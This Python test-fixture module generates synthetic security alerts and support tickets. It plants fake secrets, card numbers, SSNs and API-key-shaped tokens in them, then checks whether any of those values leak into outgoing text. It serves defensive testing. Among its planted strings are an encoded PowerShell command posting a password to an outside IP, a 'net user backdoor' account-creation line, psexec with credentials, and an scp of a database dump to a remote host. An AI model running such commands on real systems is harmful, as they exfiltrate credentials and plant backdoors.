"""Alerts and tickets with planted secrets and personal data, to see what leaves the house.

Written from what the tier promises to keep inside, not from how it looks for it: the forms are those that values take
in vendors' documents, command lines, URLs, mails and chats.
"""

import base64
import html
import random
import re
import string
import unicodedata
from collections.abc import Callable, Iterable
from typing import Any
from urllib.parse import quote, unquote

import orjson

from schemas.event import Event

FIRST = [
    "kari", "tomasz", "leila", "noor", "dana", "marcel", "ines", "yusuf", "greta", "oisin", "paulo", "hanneke",
    "rosalind", "bjorn",
]  # fmt: skip
LAST = [
    "brandvold", "kowalczyk", "benyamina", "whitlock", "haraldsson", "abiola", "moreau", "oduya", "ferreira",
    "vandijk", "castellano",
]  # fmt: skip
DOMAINS = [
    "corp.example.com",
    "example.org",
    "mail.example.net",
    "staff.acme-bank.example",
    "kunden.beispiel.de",
]
SECRET_WORDS = [
    "Tr0ub4dor&3",
    "hunter2!",
    "S0mmer2026",
    "correct-horse7",
    "Wint3r#Pass",
    "p4ssw0rd-Zx",
]
ZERO_WIDTH = "\u200b"

Plant = tuple[str, list[str]]
"""What is written into the event, and the strings that must not be found outside."""


def planted_events(n: int, seed: int) -> list[tuple[Event, list[str]]]:
    """`n` events, each with the values that must not leave; the same for the same seed."""
    chance = random.Random(seed)
    return [_SCENES[index % len(_SCENES)](chance, f"planted-{index}") for index in range(n)]


def arrived(planted: Iterable[str], outgoing: str) -> list[str]:
    """Which of `planted` can be read out of `outgoing`, undoing what an inquisitive reader would undo."""
    views = _views(outgoing)
    packed = ["".join(filter(str.isalnum, view)) for view in views]
    return [value for value in planted if _is_readable(value.casefold(), views, packed)]


def _views(outgoing: str) -> list[str]:
    decoded = [outgoing, unquote(outgoing), unquote(unquote(outgoing)), html.unescape(outgoing)]
    decoded += [_unbase64(run) for run in re.findall(r"[A-Za-z0-9+/_-]{12,}={0,2}", outgoing)]
    decoded.append(outgoing.replace("\\\\", "\\").replace("\\n", "\n").replace('\\"', '"'))
    plain = (unicodedata.normalize("NFKC", text) for text in decoded)
    return [
        "".join(c for c in text if unicodedata.category(c) != "Cf").casefold() for text in plain
    ]


def _unbase64(run: str) -> str:
    plain = run.replace("-", "+").replace("_", "/").rstrip("=")
    raw = base64.b64decode(plain[: len(plain) - (len(plain) % 4 == 1)] + "==")
    return raw.replace(b"\x00", b"").decode("utf-8", "ignore")


def _is_readable(value: str, views: list[str], packed: list[str]) -> bool:
    compact = "".join(filter(str.isalnum, value))
    if len(compact) >= 9 and any(compact in view for view in packed):
        return True
    word = re.compile(rf"(?<![^\W_]){re.escape(value)}(?![^\W_])")
    return any(value in view and word.search(view) for view in views)


# --- one value of each kind


def login(chance: random.Random) -> str:
    """A user name as directories have them."""
    first, last = chance.choice(FIRST), chance.choice(LAST)
    number = chance.randint(10, 99)
    return chance.choice(
        [f"{first}.{last}", f"{first[0]}.{last}", f"adm_{first[0]}{last}", f"{last}{number}"]
    )


def host(chance: random.Random) -> str:
    """A machine's name, with or without its domain."""
    site = chance.choice(
        ["HYPERV", "ACC-LT", "FILESRV", "web-prod", "mba", "SRV-APP", "kiosk", "DC"]
    )
    name = f"{site}-{chance.randint(10, 9999)}"
    return chance.choice([name, f"{name}.corp.example.com"])


def email(chance: random.Random) -> Plant:
    """An address in one of the disguises addresses wear."""
    local = f"{chance.choice(FIRST)}.{chance.choice(LAST)}{chance.choice(['', str(chance.randint(1, 99)), '+bank'])}"
    domain = chance.choice(DOMAINS)
    plain = f"{local}@{domain}"
    written = chance.choice(
        [
            plain,
            plain,
            plain.upper(),
            f"<{plain}>",
            f"mailto:{plain}",
            f"{local}%40{domain}",
            f"{local} [at] {domain}",
            f"{local}(at){domain.replace('.', '[.]')}",
            f"{local}&#64;{domain}",
            f"{local}&#x40;{domain}",
            f"{local}\uff20{domain}",
            f"{local[:3]}{ZERO_WIDTH}{local[3:]}@{domain}",
            "".join(chr(ord(c) + 0xFEE0) if c.isascii() and c.isalnum() else c for c in plain),
            f"https://shop.example.com/unsubscribe?u={quote(plain, safe='')}&c=9",
        ]
    )
    return written, [plain, local]


def phone(chance: random.Random) -> Plant:
    """A number as people of several countries write it."""
    tail = chance.randint(1000, 9999)
    written = chance.choice(
        [
            f"+44 20 7946 {tail}",
            f"020 7946 {tail}",
            f"+1 (212) 736-{tail}",
            f"212-736-{tail}",
            f"(212) 736 {tail}",
            f"212.736.{tail}",
            f"+55 11 98765-{tail}",
            f"(11) 98765-{tail}",
            f"+49 30 9018 {tail}",
            f"030 9018{tail}",
            f"0049 30 9018{tail}",
            f"+353 1 555 {tail}",
            f"06 12 34 {str(tail)[:2]} {str(tail)[2:]}",
            f"+33612{tail}34",
            f"+34 612 34 {str(tail)[:2]} {str(tail)[2:]}",
            f"+44\u00a020\u20117946\u2011{tail}",
        ]
    )
    return written, [written, "".join(filter(str.isdigit, written))]


def card(chance: random.Random) -> Plant:
    """A payment card that passes the Luhn check."""
    prefix, length = chance.choice(
        [("4", 16), ("51", 16), ("2223", 16), ("34", 15), ("6011", 16), ("36", 14)]
    )
    digits = prefix + "".join(chance.choices(string.digits, k=length - len(prefix) - 1))
    total = sum(sum(divmod(int(d) * (2 - i % 2), 10)) for i, d in enumerate(reversed(digits)))
    digits += str(-total % 10)
    groups = [digits[i : i + 4] for i in range(0, length, 4)]
    written = chance.choice(
        [digits, " ".join(groups), "-".join(groups), ".".join(groups), "\u2009".join(groups)]
    )
    return written, [digits]


def ssn(chance: random.Random) -> Plant:
    """A US social security number."""
    parts = (
        f"{chance.randint(100, 665)}",
        f"{chance.randint(10, 99)}",
        f"{chance.randint(1000, 9999)}",
    )
    written = chance.choice(["-", " ", "\u2013"]).join(parts)
    return chance.choice(
        [written, f"SSN {''.join(parts)}", f"social security number: {''.join(parts)}"]
    ), ["".join(parts)]


def iban(chance: random.Random) -> Plant:
    """An account number with its right check digits."""
    country, account = chance.choice(
        [
            ("DE", "".join(chance.choices(string.digits, k=18))),
            ("GB", "NWBK" + "".join(chance.choices(string.digits, k=14))),
            ("FR", "".join(chance.choices(string.digits, k=23))),
            ("PT", "".join(chance.choices(string.digits, k=21))),
            ("BR", "".join(chance.choices(string.digits, k=23)) + "P1"),
        ]
    )
    number = int("".join(str(int(c, 36)) for c in f"{account}{country}00"))
    plain = f"{country}{98 - number % 97:02d}{account}"
    grouped = " ".join(plain[i : i + 4] for i in range(0, len(plain), 4))
    return chance.choice([plain, grouped, plain.lower(), grouped.replace(" ", "-")]), [plain]


def ip(chance: random.Random) -> Plant:
    """An address of either family, whole, with a port or a prefix, or defanged."""
    plain = f"{chance.choice([10, 172, 192, 203, 85])}.{plain_ip(chance).split('.', 1)[1]}"
    six = f"2001:db8:{chance.randint(16, 65535):x}::{chance.randint(16, 65535):x}"
    written, value = chance.choice(
        [
            (plain, plain),
            (f"{plain}:{chance.randint(1024, 65535)}", plain),
            (f"{plain}/24", plain),
            (f"[{plain}]", plain),
            (plain.replace(".", "[.]"), plain),
            (f"hxxp://{plain.replace('.', '[.]')}/gate.php", plain),
            (f"::ffff:{plain}", plain),
            (six, six),
            (f"[{six}]:443", six),
            (f"{six}/64", six),
            (six.upper(), six),
        ]
    )
    return written, [value]


def mac(chance: random.Random) -> Plant:
    """A hardware address."""
    pairs = [f"{chance.randint(0, 255):02x}" for _ in range(6)]
    cisco = ".".join("".join(pairs[i : i + 2]) for i in (0, 2, 4))
    written = chance.choice([":".join(pairs), "-".join(pairs).upper(), cisco])
    return written, [":".join(pairs), "".join(pairs)]


def _letters(
    chance: random.Random, count: int, alphabet: str = string.ascii_letters + string.digits
) -> str:
    return "".join(chance.choices(alphabet, k=count))


def jwt(chance: random.Random) -> str:
    """A signed token, as it stands in a header."""

    def part(value: object) -> str:
        return base64.urlsafe_b64encode(orjson.dumps(value)).decode().rstrip("=")

    header, claims = (
        part({"alg": "HS256", "typ": "JWT"}),
        part({"sub": login(chance), "iat": 1773644422}),
    )
    return f"{header}.{claims}.{_letters(chance, 43)}"


def token(chance: random.Random) -> str:
    """A key of one of the services everybody uses, shaped as they shape them."""
    upper, hexadecimal = string.ascii_uppercase + string.digits, "0123456789abcdef"
    return chance.choice(
        [
            lambda: "AKIA" + _letters(chance, 16, upper),
            lambda: "ASIA" + _letters(chance, 16, upper),
            lambda: "AIza" + _letters(chance, 35),
            lambda: "ya29." + _letters(chance, 60),
            lambda: "ghp_" + _letters(chance, 36),
            lambda: "github_pat_" + _letters(chance, 22) + "_" + _letters(chance, 59),
            lambda: "glpat-" + _letters(chance, 20),
            lambda: (
                f"xoxb-{chance.randint(10**11, 10**12)}-{chance.randint(10**11, 10**12)}-{_letters(chance, 24)}"
            ),
            lambda: "sk_live_" + _letters(chance, 24),
            lambda: "rk_live_" + _letters(chance, 24),
            lambda: "sk-proj-" + _letters(chance, 48),
            lambda: "sk-ant-api03-" + _letters(chance, 80) + "AA",
            lambda: "npm_" + _letters(chance, 36),
            lambda: "pypi-AgEIcHlwaS5vcmc" + _letters(chance, 70),
            lambda: "SK" + _letters(chance, 32, hexadecimal),
            lambda: "SG." + _letters(chance, 22) + "." + _letters(chance, 43),
            lambda: f"{chance.randint(10**9, 10**10 - 1)}:AA" + _letters(chance, 33),
            lambda: _letters(chance, 40) + "/" + _letters(chance, 20),
            lambda: _letters(chance, 3) + "8Q~" + _letters(chance, 34),
            lambda: jwt(chance),
        ]
    )()


def password(chance: random.Random) -> str:
    """What a person would choose, or a generator."""
    return chance.choice(
        [chance.choice(SECRET_WORDS) + str(chance.randint(10, 99)), _letters(chance, 14) + "!7a"]
    )


def secret(chance: random.Random) -> Plant:
    """A secret in the place where it was typed."""
    word, key = password(chance), token(chance)
    url_word = _letters(chance, 12)
    written, value = chance.choice(
        [
            (f"the log has {key} in it", key),
            (f"Authorization: Bearer {key}", key),
            (f"Authorization: Basic {base64.b64encode(f'svc:{word}'.encode()).decode()}", word),
            (f"password={word}", word),
            (f"pwd: {word}", word),
            (f"my password is {word} and it does not work", word),
            (f'{{"api_key":"{key}","debug":true}}', key),
            (f"DB_PASSWORD='{word}' ./run.sh", word),
            (f"postgres://app:{url_word}@db.example.com:5432/prod", url_word),
            (f"https://deploy:{url_word}@git.example.com/repo.git", url_word),
            (f"GET /reset?token={url_word}&lang=en HTTP/1.1", url_word),
            (f"https://x.blob.example.net/b?sv=2024-01-01&sig={quote(key, safe='')}", key),
            (
                f"https://s3.example.com/o?X-Amz-Signature={'0f' * 6 + _letters(chance, 52, '0123456789abcdef')}",
                "0f" * 6,
            ),
            (
                f"DefaultEndpointsProtocol=https;AccountName=acme;AccountKey={url_word}{_letters(chance, 48)}==;",
                url_word,
            ),
            (f"mysql -u root -p{url_word} -h db1", url_word),
            (f"psexec \\\\SRV -u admin -p {url_word} cmd.exe", url_word),
            (f"./deploy --user ci --password {word} --force", word),
            (f"net user backdoor {word} /add", word),
            (f"curl -u svc:{url_word} https://api.example.com/v1", url_word),
            (f"Cookie: JSESSIONID={_letters(chance, 32)}; cart={url_word}", url_word),
            (
                f"-----BEGIN RSA PRIVATE KEY-----\nMIIE{_letters(chance, 40)}\n{url_word}\n-----END PRIVATE KEY-----",
                url_word,
            ),
            (f"Server=db;Database=crm;User Id=app;Password={word};Encrypt=true", word),
            (f"aws_secret_access_key = {url_word}/{_letters(chance, 27)}", url_word),
        ]
    )
    return written, [value]


_KINDS: list[Callable[[random.Random], Plant]] = [email, phone, card, ssn, iban, ip, mac, secret]

# --- where they are planted


def _sentences(chance: random.Random, plants: Iterable[Plant]) -> str:
    frames = [
        "The analyst noted {} in the case.",
        "Seen twice today: {}",
        "({}) was in the attachment",
        "please look at {} quickly, thank you",
        "value='{}'",
        "It said: {}\nand then nothing more.",
    ]
    return " ".join(chance.choice(frames).format(written) for written, _ in plants)


def _some(chance: random.Random, count: int) -> list[Plant]:
    return [kind(chance) for kind in chance.sample(_KINDS, count)]


def _all(plants: Iterable[Plant]) -> list[str]:
    return [value for _, values in plants for value in values]


def _windows(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
    user, machine, word = login(chance), host(chance), password(chance)
    address, _ = ip(chance)
    plants = _some(chance, 2)
    document = {
        "Channel": "Security",
        "EventID": 4688,
        "Computer": machine,
        "EventData": {
            "TargetUserName": user,
            "SubjectUserName": f"CORP\\{user}",
            "IpAddress": (plain := plain_ip(chance)),
            "CommandLine": f'C:\\Users\\{user}\\run.exe /user:{user} --password "{word}" {address}',
        },
    }
    text = f"{user.upper()} started run.exe on {machine.lower()} as CORP\\{user}. {_sentences(chance, plants)}"
    event = Event(
        id=id_,
        kind="alert",
        title=f"Process on {machine}",
        text=text,
        event=document,
        source="sysmon",
    )
    return event, [user, machine, plain, word, *_all(plants)]


def plain_ip(chance: random.Random) -> str:
    """An IPv4 address, nothing round it."""
    return f"10.{chance.randint(16, 255)}.{chance.randint(0, 255)}.{chance.randint(1, 254)}"


def _cloudtrail(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
    user, address, key = login(chance), plain_ip(chance), token(chance)
    plants = _some(chance, 2)
    mail, mails = email(chance)
    document = {
        "eventSource": "iam.amazonaws.com",
        "eventName": "CreateAccessKey",
        "sourceIPAddress": address,
        "userIdentity": {
            "type": "IAMUser",
            "userName": user,
            "arn": f"arn:aws:iam::123456789012:user/{user}",
            "sessionContext": {"sessionIssuer": {"userName": user}},
        },
        "requestParameters": {"note": _sentences(chance, plants), "tags": {mail: "owner"}},
        "responseElements": {"accessKey": {"secretAccessKey": key, "status": "Active"}},
    }
    body = f"Someone at {address} used {user}'s key; {user} denies it."
    event = Event(
        id=id_, kind="alert", title="New access key", body=body, event=document, source="cloudtrail"
    )
    return event, [user, address, key, *mails, *_all(plants)]


def _ecs(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
    user, machine = login(chance), host(chance)
    number, numbers = card(chance)
    _, phones = phone(chance)
    social = f"{chance.randint(100, 665)}{chance.randint(10, 99)}{chance.randint(1000, 9999)}"
    address, hardware = plain_ip(chance), mac(chance)
    document = {
        "host": {"name": machine, "ip": [address], "mac": hardware[0], "os": {"name": "Windows"}},
        "user.name": user,
        "process": {
            "command_line": f"scp /home/{user}/dump.sql {user}@{address}:/tmp/",
            "pid": 4711,
        },
        "fields": {"card_number": int(numbers[0]), "ssn": int(social), "phone": int(phones[1])},
        "matches": [
            {"value": number},
            {"value": int(numbers[0])},
            [[{"deep": {"deeper": address}}]],
        ],
        "message": f"sshd[811]: Accepted password for {user} from {address} port 51544 ssh2",
    }
    event = Event(
        id=id_, kind="alert", text=f"{machine}: data staged by {user}", event=document, source="ecs"
    )
    return event, [user, machine, address, social, phones[1].lstrip("0"), *numbers, *hardware[1]]


def _encoded(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
    mail, word, user = f"{login(chance)}@{chance.choice(DOMAINS)}", password(chance), login(chance)
    number = card(chance)[1][0]
    script = f"Invoke-WebRequest -Uri http://198.51.100.9/u={user} -Body password={word}"
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    document = {
        "cmd": f"powershell.exe -nop -enc {blob}",
        "url": f"https://x.example.net/p?d={quote(quote(mail))}&q={quote(f'password={word}')}",
        "payload": base64.b64encode(orjson.dumps({"email": mail, "card": number})).decode(),
        "raw": orjson.dumps({"user": user, "nested": {"mail": mail}}).decode(),
        "actor": {"displayName": user.title(), "alternateId": mail},
        "cookie": base64.urlsafe_b64encode(f"{user}:{number}".encode()).decode(),
        f"seen {mail}": 3,
    }
    event = Event(
        id=id_, kind="alert", title="Encoded upload", event=document, attributes={"user": user}
    )
    return event, [mail, word, user, number]


def _okta(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
    mail, address, machine = (
        f"{login(chance)}@{chance.choice(DOMAINS)}",
        plain_ip(chance),
        host(chance),
    )
    plants = _some(chance, 2)
    document = {
        "eventType": "user.session.start",
        "actor": {"type": "User", "alternateId": mail},
        "client": {"ipAddress": address, "device": {"name": machine}},
        "debugContext": {
            "debugData": {
                "sessionToken": (key := _letters(chance, 26)),
                "url": f"/login?fromURI={mail}",
            }
        },
        "target": [{"type": "User", "alternateId": mail}, _sentences(chance, plants)],
    }
    local = mail.partition("@")[0]
    text = f"{local} signed in from {address} on {machine}."
    return Event(id=id_, kind="alert", text=text, event=document, source="okta"), [
        mail,
        local,
        address,
        machine,
        key,
        *_all(plants),
    ]


def _ticket(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
    plants = _some(chance, 4)
    body = f"Hello,\n\nmy transfer is missing. {_sentences(chance, plants)}\n\nKind regards"
    mail, mails = email(chance)
    attributes: dict[str, Any] = {"channel": "email", "from": mail, "user": (user := login(chance))}
    event = Event(
        id=id_, kind="ticket", title="Where is my money", body=body, attributes=attributes
    )
    return event, [user, *mails, *_all(plants)]


def _chat(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
    plants = _some(chance, 3)
    word, pin = password(chance), str(chance.randint(100_000, 999_999))
    text = f"hi my pw: {word} pin is {pin} pls help, {_sentences(chance, plants)}"
    return Event(id=id_, kind="ticket", text=text, source="chat"), [word, pin, *_all(plants)]


def _syslog(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
    user, machine, address = login(chance), host(chance), plain_ip(chance)
    plants = _some(chance, 2)
    text = f'action=login user={user} host={machine} src={address} msg="failed for {user}" {_sentences(chance, plants)}'
    return Event(id=id_, kind="alert", text=text, source="firewall"), [
        user,
        machine,
        address,
        *_all(plants),
    ]


_SCENES = [_windows, _cloudtrail, _ecs, _encoded, _okta, _ticket, _chat, _syslog]
